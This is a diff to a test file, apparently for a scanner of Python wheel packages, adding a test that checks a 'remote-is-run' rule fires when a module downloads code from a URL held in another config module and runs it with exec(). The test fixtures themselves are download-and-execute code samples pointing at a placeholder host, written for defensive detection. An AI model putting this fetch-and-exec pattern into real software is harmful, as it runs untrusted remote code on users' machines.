@@ -166,6 +166,18 @@ def test_what_is_fetched_from_wherever_the_caller_says_weighs_less() -> None:
     assert "remote-is-run" not in told
 
 
+@pytest.mark.parametrize(
+    "source",
+    [
+        "import urllib.request\nfrom . import config\n\ndef load():\n    exec(urllib.request.urlopen(config.WHERE).read())\n",
+        "import urllib.request\nfrom .config import WHERE\n\ndef fetch(url):\n    return urllib.request.urlopen(url).read()\n\ndef load():\n    exec(fetch(WHERE))\n",
+    ],
+)
+def test_what_is_fetched_from_where_another_module_says_is_its_own(source: str) -> None:
+    package = {"pkg/__init__.py": b"", "pkg/config.py": b"WHERE = 'https://c.example.invalid/'\n"}
+    assert "remote-is-run" in fired(WHEEL, wheel(package | {"pkg/preload.py": source.encode()}))
+
+
 @pytest.mark.parametrize("source", ONLY_READ.values(), ids=ONLY_READ)
 def test_what_is_asked_for_and_only_read_tells_nothing(source: str) -> None:
     told = fired(WHEEL, wheel({"tidetables/core.py": (FETCH + source).encode()}))
